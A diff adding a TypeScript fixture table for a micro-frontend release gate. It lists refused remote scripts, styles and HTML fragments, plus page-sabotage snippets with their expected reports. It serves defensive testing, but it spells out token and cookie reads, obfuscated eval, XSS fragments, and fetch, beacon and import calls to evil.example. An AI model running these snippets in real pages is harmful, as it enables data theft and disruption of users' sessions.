@@ -1,0 +1,447 @@
+/**
+ * The table of mistakes that a careless team may make in a remote, and how each is refused or contained. `npm run
+ * careless` prints it; the gate's rows run in `mistakes.test.ts`, the smoke test's in
+ * `e2e/journeys/release-gate.spec.ts`, the page's in `e2e/faults/strange-remote.spec.ts`.
+ */
+
+/** Scripts that the gate refuses, by rule. */
+export const refusedScripts: Readonly<Record<string, readonly string[]>> = {
+  'own-storage': [
+    'localStorage.getItem("adcoin.token")',
+    'window["local"+"Storage"].getItem(k)',
+    'const n="local";globalThis[`${n}Storage`].clear()',
+    'const {["localStorage"]:s}=window;s.clear()',
+    'store.get("adcoin."+"token")',
+    'const p="adcoin",k=`${p}.token`;store.get(k)',
+    'document["coo"+"kie"]="a=b"',
+    'el.ownerDocument.cookie',
+  ],
+  'own-hosts': [
+    'fetch("https://evil.example/x")',
+    'fetch("//evil.example/x")',
+    'fetch(address)',
+    'fetch("/"+path)',
+    'window["fe"+"tch"]("https://evil.example")',
+    'const {fetch:f}=self;f("https://evil.example")',
+    'const f=fetch;f("https://evil.example")',
+    'fetch.call(null,"https://evil.example")',
+    'Reflect.apply(fetch,null,["https://evil.example"])',
+    'let u="/app/x";u="https://evil.example";fetch(u)',
+    'fetch(new URL("https://evil.example",import.meta.url))',
+    'function f(a=fetch("https://evil.example")){var fetch;return a}',
+    'function f(){{let fetch=1}return fetch("https://evil.example")}',
+    'new XMLHttpRequest',
+    'new WebSocket("wss://evil.example")',
+    'navigator.sendBeacon("https://evil.example",x)',
+    'new RTCPeerConnection',
+    'import("https://evil.example/x.js")',
+    'import(where)',
+    'import "https://evil.example/x.js"',
+  ],
+  'no-evaluation': [
+    'eval("1")',
+    '(0,eval)("1")',
+    'window.eval?.("1")',
+    'const {eval:e}=window',
+    'new Function("return 1")',
+    'Function("return this")()',
+    'const F=Function',
+    'Function.prototype.constructor("1")',
+    'setTimeout("alert(1)",1)',
+    'setTimeout(`a(${x})`)',
+    'window.setInterval("a"+"()",9)',
+    'const c="alert(1)";setTimeout(c)',
+    'const s=setTimeout;s("alert(1)")',
+    'a.href="javascript:alert(1)"',
+    'trustedTypes.createPolicy("x",{})',
+  ],
+  'document-stays': [
+    'document.open()',
+    'document.write("x")',
+    'document["wri"+"te"]("x")',
+    'window.document.writeln("x")',
+    'const {document:d}=window;d.open()',
+    'el.ownerDocument.open()',
+    'frame.contentDocument.write("x")',
+    '[document].map(d=>d.open())',
+    'document[name]()',
+    'frame.srcdoc="<p>"',
+    'frame.setAttribute("srcdoc","<p>")',
+    'jsx(tag,{srcDoc:html})',
+    'document.createElement("script")',
+    'document.createElement("iframe")',
+    'document.createElement(tag)',
+  ],
+  'location-stays': [
+    'location="/x"',
+    'location.href="/x"',
+    'window["loc"+"ation"].href="/x"',
+    'document.location="/x"',
+    'location.assign("/x")',
+    'location[name]("/x")',
+    'location.reload()',
+    'const l=location;l.href="/x"',
+    'const {location:l}=window',
+    '[location.href]=["/x"]',
+    'Object.assign(location,{href:"/x"})',
+    '(a||location).href="/x"',
+    'open("/x","_self")',
+    'navigation.navigate("/x")',
+    'el.ownerDocument.defaultView.location="/x"',
+    'function f(){{let location={}}location.href="/x"}',
+  ],
+  'plain-globals': [
+    'const w=window;w.location="/x"',
+    'use(self)',
+    'export{window as w}',
+    'let w;w=top',
+    'window[name]("1")',
+    'Reflect.get(window,name)',
+    'const {defaultView:v}=el.ownerDocument',
+    'use(frame.contentWindow)',
+  ],
+}
+
+/** A script with what the gate says about it. */
+export type ToldScript = readonly [script: string, says: string]
+
+const voice = `const emit=(0,bus.emitterFor)("team",own);`
+/** A remote emits only its own events, with literal names that its card lists. */
+export const foreignEvents: readonly ToldScript[] = [
+  ['(0,b.emitterFor)("wallet",walletEvents)', 'it speaks as wallet'],
+  ['b?.emitterFor?.("wallet")', 'it speaks as wallet'],
+  ['b["emitterFor"](`wallet`)', 'it speaks as wallet'],
+  ['b["emitter"+"For"]("wallet")', 'it speaks as wallet'],
+  ['import*as b from"./b.js";b.emitterFor("wallet")', 'it speaks as wallet'],
+  ['const n="emitterFor";b[n]("wallet")', 'it speaks as wallet'],
+  ['const {["emitterFor"]:make}=b;make("wallet")', 'without saying for whom'],
+  ['const {["emitter"+"For"]:make}=b;make("wallet")', 'without saying for whom'],
+  ['Reflect.get(b,"emitterFor")("wallet")', 'without saying for whom'],
+  ['b.emitterFor.call(b,"wallet")', 'without saying for whom'],
+  ['b.emitterFor.bind(b)("wallet")', 'without saying for whom'],
+  ['export{emitterFor}from"./b.js"', 'without saying for whom'],
+  ['b.voiceOf("team")("wallet")', 'it speaks as team'],
+  ['const own="wallet";b.emitterFor(own)', 'without saying for whom'],
+  ['const make=b.emitterFor;make("wallet")', 'without saying for whom'],
+  ['const {emitterFor:make}=b;make("wallet")', 'without saying for whom'],
+  ['[b].map(({emitterFor})=>emitterFor("team"))', 'without saying for whom'],
+  [`${voice}emit("wallet.balanceChanged",{})`, 'it says wallet.balanceChanged, which only wallet may'],
+  [`${voice}emit("team.inviterLost",{})`, 'an event that the contract does not have'],
+  [`${voice}emit("team."+name,{})`, 'it says an event whose name stands nowhere'],
+  ['(0,e.emit)("team.inviterLost",{})', 'an event that the contract does not have'],
+  ['(0,e.aB)("tasks.rewardPaid",{})', 'it says tasks.rewardPaid, which only tasks may'],
+]
+
+const isNotInCard = 'which its card does not say'
+const isNotInContract = 'an event that the contract does not have'
+/** A remote listens only to events that its card lists. */
+export const unlistedEvents: readonly ToldScript[] = [
+  ['b.bus.on("wallet.balanceLost",f)', isNotInContract],
+  ['b.bus.scope("team",s).on("wallet.balanceLost",f)', isNotInContract],
+  ['const s=b.bus.scope("team",signal);s.stream("wallet.balanceLost")', isNotInContract],
+  ['const {on}=b;x.on("wallet.balanceLost",f)', isNotInContract],
+  ['(0,b.useEvent)("wallet.balanceLost",f)', isNotInContract],
+  ['(0,b.useEvent)("wallet.balanceChanged",f)', isNotInCard],
+  ['b.bus.stream(`wallet.balanceChanged`)', isNotInCard],
+  ['b.bus.on("shell.languageChanged",f)', isNotInCard],
+  ['b.bus.on(name,f)', 'whose name stands nowhere'],
+  ['(0,b.useEvent)(names.first,f)', 'whose name stands nowhere'],
+  ['const s=b.bus.scope("team");s.on(name,f)', 'whose name stands nowhere'],
+]
+
+/** A remote stores only what its release names. */
+export const unnamedStorage: readonly ToldScript[] = [
+  ['localStorage.setItem("x","y")', 'it uses localStorage itself'],
+  ['window.sessionStorage.x=1', 'it uses sessionStorage itself'],
+  ['globalThis["localStorage"].clear()', 'it uses localStorage itself'],
+  ['globalThis.window?.localStorage', 'it uses localStorage itself'],
+  ['const {localStorage:s}=window', 'it uses localStorage itself'],
+  ['const {localStorage}=window', 'it uses localStorage itself'],
+  ['keep({localStorage})', 'it uses localStorage itself'],
+  ['Storage.prototype.setItem.call(s,"x","y")', 'it uses Storage itself'],
+  ['indexedDB.open("x")', 'it uses indexedDB itself'],
+  ['document.cookie="x=y"', 'it uses document.cookie itself'],
+  ['window.document.cookie', 'it uses document.cookie itself'],
+  ['cookieStore.set("x","y")', 'it uses cookieStore itself'],
+  ['store.set("adcoin.token","")', 'it names the stored adcoin.token itself'],
+  ['store.set(`adcoin.draft.${user}`,"")', 'it names the stored adcoin.draft. itself'],
+  ['k.defineDraft({owner:"wallet",name:"sell",version:1,schema:s})', 'it keeps wallet.sell@1'],
+  ['k.defineDraft({owner:"team",name:"invite",version:2,schema:s})', 'it keeps team.invite@2'],
+  ['k.defineDraft(definition)', 'it keeps something'],
+]
+
+/** What the smoke test in a browser refuses: code of the entry, and what is found. */
+export const leftBehind: readonly (readonly [says: string, code: string, finds: string])[] = [
+  ['a global', 'globalThis.leak=1', 'window.leak'],
+  ['a changed native', '{const soon=queueMicrotask;window.queueMicrotask=run=>soon(run)}', 'window.queueMicrotask'],
+  ['a changed prototype', 'Array.prototype.last=function(){}', 'Array.prototype.last'],
+  [
+    'a timeout that starts itself again',
+    '(function again(){setTimeout(again,400)})()',
+    'it goes on after its screens: timeout',
+  ],
+  ['a timer', 'setInterval(()=>{},1000)', 'it left behind: interval'],
+  ['a listener', "addEventListener('resize',()=>{})", 'it left behind: resize listener'],
+  ['a listener on the body', "document.body.addEventListener('click',()=>{})", 'it left behind: click listener'],
+  ['a changed date', 'Date.prototype.getDay=()=>3', 'Date.prototype.getDay'],
+  ['a scroll lock', "document.body.style.overflow='hidden'", 'style on <body>'],
+  ['an element', "document.body.append(document.createElement('aside'))", '<aside> in <body>'],
+]
+
+/**
+ * Code that runs in the page of a release that passed: once after the first screen, or at each drawing; with the
+ * report that it causes.
+ */
+export type PageFault = readonly [says: string, when: 'onceShown' | 'eachDraw', code: string, report?: string]
+
+/** Undone or bounded on the spot: the area goes on, and the rest of the page never sees it. */
+export const undone: readonly PageFault[] = [
+  ['replaces the state of the history', 'onceShown', 'history.replaceState({mine:1},"")'],
+  ['stops the page', 'onceShown', 'stop()'],
+  [
+    'renames and turns the document',
+    'onceShown',
+    'document.title="Mine";document.documentElement.lang="xx";document.documentElement.dir="rtl"',
+    'dir on <html>',
+  ],
+  [
+    'opens a modal dialog outside its place',
+    'onceShown',
+    'const d=document.createElement("dialog");document.body.append(d);d.showModal()',
+    '<dialog> in <body>',
+  ],
+  ['makes the body inert', 'onceShown', 'document.body.inert=true', 'inert on <body>'],
+  ['makes the root inert', 'onceShown', 'document.getElementById("root").inert=true', 'inert on the root'],
+  ['hides the root', 'onceShown', 'document.getElementById("root").hidden=true', 'hidden on the root'],
+  [
+    'covers the page',
+    'onceShown',
+    'const d=document.createElement("div");d.style.cssText="position:fixed;inset:0;z-index:99999";document.documentElement.append(d)',
+    '<div> in <html>',
+  ],
+  [
+    'lays its own heading over the whole page',
+    'onceShown',
+    'document.querySelector("[data-area=remote-team] h1").style.cssText="position:fixed;inset:-9999px;z-index:99999;background:red"',
+  ],
+  [
+    'adopts a style sheet',
+    'onceShown',
+    'const s=new CSSStyleSheet();s.replaceSync("main,nav,h1{display:none!important}");document.adoptedStyleSheets=[s]',
+    'adopted style sheets',
+  ],
+  [
+    'hides and zooms the body',
+    'onceShown',
+    'document.body.style.display="none";document.body.style.zoom="3"',
+    'style on <body>',
+  ],
+  ['locks the scroll', 'onceShown', 'document.documentElement.style.overflow="hidden"', 'style on <html>'],
+  ['removes the root', 'onceShown', 'document.getElementById("root").remove()', 'the root was taken away'],
+  [
+    'empties the root',
+    'onceShown',
+    'document.getElementById("root").replaceChildren()',
+    'what stands in the root was taken away',
+  ],
+  ['opens the document anew', 'onceShown', 'document.open();document.close()', 'document.open()'],
+  ['writes a document', 'onceShown', 'document.writeln("mine")', 'document.writeln()'],
+  ['takes the body away', 'onceShown', 'document.body.remove()', '<body> was taken away'],
+  ['takes the document away', 'onceShown', 'document.documentElement.remove()', '<html> was taken away'],
+  ['empties the document', 'onceShown', 'document.documentElement.replaceChildren()', '<body> was taken away'],
+  ['empties the head', 'onceShown', 'document.head.replaceChildren()', '<link> was taken away'],
+  [
+    'throws as it goes away',
+    'eachDraw',
+    'Object.values(__FEDERATION__.__INSTANCES__[0].shareScopeMap.default.react)[0].lib().useEffect(()=>()=>{throw new Error("mine")},[])',
+  ],
+  [
+    'asks before it lets go',
+    'onceShown',
+    'addEventListener("beforeunload",e=>{e.preventDefault()})',
+    'beforeunload listener',
+  ],
+  ['floods the console', 'onceShown', 'for(let i=0;i<20000;i++)console.log("flood",i)'],
+  [
+    'holds the page in long pieces',
+    'onceShown',
+    'let n=0;const hold=()=>{const end=performance.now()+200;while(performance.now()<end);if(++n<30)setTimeout(hold,20)};hold()',
+    'longtask',
+  ],
+  [
+    'fills the storage',
+    'onceShown',
+    'try{for(let i=0;i<60;i++)localStorage.setItem("mine"+i,"x".repeat(200000))}catch{}',
+  ],
+  [
+    'takes the focus again and again',
+    'onceShown',
+    'setInterval(()=>document.querySelector("[data-area=remote-team] h1")?.focus(),20)',
+  ],
+  ['asks 200 times at once', 'onceShown', 'for(let i=0;i<200;i++)fetch("/registry.json?"+i).catch(()=>{})'],
+  ['stops every click', 'onceShown', 'addEventListener("click",e=>e.stopPropagation(),true)'],
+  [
+    'swallows every error of the page',
+    'onceShown',
+    'window.onerror=()=>true;window.onunhandledrejection=e=>e.preventDefault()',
+  ],
+  [
+    'gives the document another base',
+    'onceShown',
+    'const b=document.createElement("base");b.href="/mine/";document.head.prepend(b)',
+  ],
+  [
+    'adds a rule to a shared style sheet',
+    'onceShown',
+    'document.styleSheets[0].insertRule("nav,main{display:none!important}")',
+  ],
+  [
+    'appends a style element',
+    'onceShown',
+    'const s=document.createElement("style");s.textContent="main{display:none!important}";document.head.append(s)',
+  ],
+  ['lets people edit the page', 'onceShown', 'document.body.contentEditable="true";document.designMode="on"'],
+  [
+    'forbids to zoom',
+    'onceShown',
+    'document.querySelector("meta[name=viewport]").content="width=3000,user-scalable=no"',
+  ],
+  [
+    'takes the theme away',
+    'onceShown',
+    'document.documentElement.dataset.theme="mine";document.documentElement.className="mine"',
+  ],
+  ['scrolls again and again', 'onceShown', 'setInterval(()=>scrollTo(0,0),16)'],
+  ['starts 50,000 timeouts', 'onceShown', 'for(let i=0;i<50000;i++)setTimeout(()=>{},i%500)'],
+  ['keeps 20 MB for each visit', 'onceShown', '(globalThis.hasBegun.kept??=[]).push?.(new Uint8Array(2e7))'],
+  ['asks the service every 20 ms', 'onceShown', 'setInterval(()=>fetch("/app/languages").catch(()=>{}),20)'],
+  ['says something in a dialog of the browser', 'onceShown', 'alert("mine");confirm("mine")'],
+  ['goes elsewhere in the history', 'onceShown', 'history.pushState({},"","/mine")'],
+  [
+    'asks to be let in again and again',
+    'onceShown',
+    'for(let i=0;i<50;i++)dispatchEvent(new PopStateEvent("popstate"))',
+  ],
+  [
+    'presses every key',
+    'onceShown',
+    'setInterval(()=>document.dispatchEvent(new KeyboardEvent("keydown",{key:"Escape",bubbles:true})),50)',
+  ],
+  ['says that the network is gone', 'onceShown', 'dispatchEvent(new Event("offline"))'],
+  [
+    'draws 30,000 elements in its area',
+    'onceShown',
+    'const a=document.querySelector("[data-area=remote-team] h1").parentElement;for(let i=0;i<30000;i++)a.append(document.createElement("i"))',
+  ],
+]
+
+/** Native functions: restored as the next area is opened, and reported without a name. */
+export const restored: readonly PageFault[] = [
+  ['breaks JSON.parse', 'onceShown', 'JSON.parse=()=>{throw new Error("mine")}', 'something changed JSON.parse'],
+  [
+    'breaks Promise',
+    'onceShown',
+    'window.Promise=class{constructor(){throw new Error("mine")}}',
+    'something changed window.Promise',
+  ],
+  [
+    'breaks fetch',
+    'onceShown',
+    'window.fetch=()=>Promise.reject(new TypeError("mine"))',
+    'something changed window.fetch',
+  ],
+  ['breaks history.pushState', 'onceShown', 'history.pushState=()=>{}', 'something changed history.pushState'],
+  [
+    'gives every call the same key',
+    'onceShown',
+    'crypto.randomUUID=()=>"00000000-0000-4000-8000-000000000000"',
+    'something changed crypto.randomUUID',
+  ],
+  ['takes chance away', 'onceShown', 'Math.random=()=>0.5', 'something changed Math.random'],
+  ['stops timeouts', 'onceShown', 'window.setTimeout=()=>0', 'something changed window.setTimeout'],
+  ['stops the clock', 'onceShown', 'Date.now=()=>0', 'something changed Date.now'],
+  ['breaks Array.prototype.map', 'onceShown', 'Array.prototype.map=()=>[]', 'something changed Array.prototype.map'],
+]
+
+/** No screen at all: the previous release takes its place. */
+export const replaced: readonly PageFault[] = [
+  ['waits for ever as it is drawn', 'eachDraw', 'throw new Promise(()=>{})', 'nothing of it was drawn'],
+  ['throws what cannot be read', 'eachDraw', 'throw {get message(){throw 1},toString(){throw 2}}', 'cannot be read'],
+  ['draws itself without end', 'eachDraw', 'throw new Error("Too many re-renders")', 'Too many re-renders'],
+]
+
+/** Keeps the page at work, so that nothing else gets its turn. */
+export const endless: PageFault = [
+  'sets its state in each effect',
+  'eachDraw',
+  'const r=Object.values(__FEDERATION__.__INSTANCES__[0].shareScopeMap.default.react)[0].lib();const [n,set]=r.useState(0);r.useEffect(()=>set(n+1))',
+  'never comes to rest',
+]
+
+const own = '.team-0a1b2c3'
+const isNotOwn = 'no class that this build made'
+const isNoFile = 'no file of this release'
+/** Styles that the gate refuses, with the reason. */
+export const refusedStyles: readonly ToldScript[] = [
+  ['body{margin:0}', 'global'],
+  [`:root,${own}{--brand:red}`, 'global'],
+  ['@media print{nav{display:none}}', 'global'],
+  ['.ac-button{color:red}', 'a class of @adcoin/ui'],
+  [`${own} .ac-btn{color:red}`, 'a class of @adcoin/ui'],
+  ['.team-page{color:red}', isNotOwn],
+  [`.sidebar ${own}{color:red}`, isNotOwn],
+  ['.wallet-0a1b2c3{color:red}', isNotOwn],
+  ['@import "/releases/other.css";', 'its effect is not limited'],
+  [`@layer ac.components{${own}{color:red}}`, 'its effect is not limited'],
+  ['@font-face{font-family:Inter;src:url(dot.png)}', 'its effect is not limited'],
+  ['@keyframes ac-turn{to{opacity:0}}', 'one name for the whole page'],
+  [`${own}{color:red;b{margin:0`, 'cannot be read'],
+  [`${own}{--ac-accent:red}`, 'tokens belong to'],
+  [`${own}{all:inherit}`, 'beyond the element'],
+  [`${own}{background:url(https://evil.example/x.png)}`, isNoFile],
+  [`${own}{--picture:url(//evil.example/x.png);background:var(--picture)}`, isNoFile],
+  [`${own}{background:image-set("https://evil.example/x.png" 1x)}`, isNoFile],
+]
+
+const outside = 'points outside this app'
+const attribute = 'it holds the attribute'
+const word = 'holds more than a word'
+const place = 'not closed, or stands where HTML does not allow it'
+const broken = 'broken HTML'
+/** Prerendered fragments that the gate refuses, with the reason. */
+export const refusedFragments: readonly ToldScript[] = [
+  // The bypasses that were found by trying.
+  ['<a href="/\\evil.example">x</a>', outside],
+  // Addresses …
+  ['<a href="//evil.example">x</a>', outside],
+  ['<a href="https://evil.example">x</a>', outside],
+  ['<a href="javascript:x()">x</a>', outside],
+  ['<img src="https://evil.example/x.png">', outside],
+  ['<img src="/x.png" srcset="//evil.example 2x">', attribute],
+  ['<a href="/home" target="_blank">x</a>', attribute],
+  ['<a href="/home" href="//evil.example">x</a>', broken],
+  // … attributes that act …
+  ['<p onclick="x()">x</p>', attribute],
+  ['<p constructor="x">x</p>', attribute],
+  ['<p style="color:red">x</p>', attribute],
+  ['<p id="registry">x</p>', attribute],
+  ['<img name="getElementById" src="/x.png">', attribute],
+  ['<input name="__proto__">', 'is no word'],
+  ['<svg fill="url(https://evil.example#a)"></svg>', word],
+  ['<p title="</noscript><img src=x>">x</p>', word],
+  // … elements …
+  ['<script>x</script>', '<script>'],
+  ['<iframe></iframe>', '<iframe>'],
+  ['<meta http-equiv="refresh" content="0;//evil.example">', '<meta>'],
+  ['<svg><use href="//evil.example#a"/></svg>', '<use>'],
+  ['<svg><a xlink:href="javascript:x()"><title>x</title></a></svg>', '<a>'],
+  ['<svg><title><img src="/x.png"></title></svg>', 'inside a picture'],
+  ['<title>x</title>', '<title>'],
+  // … and texts that two parsers may read as two things.
+  ['<!-- x -->', 'comment or a declaration'],
+  ['<body onload="x()"><p>x</p>', place],
+  ['<p>x', place],
+  ['</template><p>x</p>', broken],
+  ['<p>x</p></noscript><img src="/x.png">', place],
+  ['<p>1 < 2</p>', broken],
+]
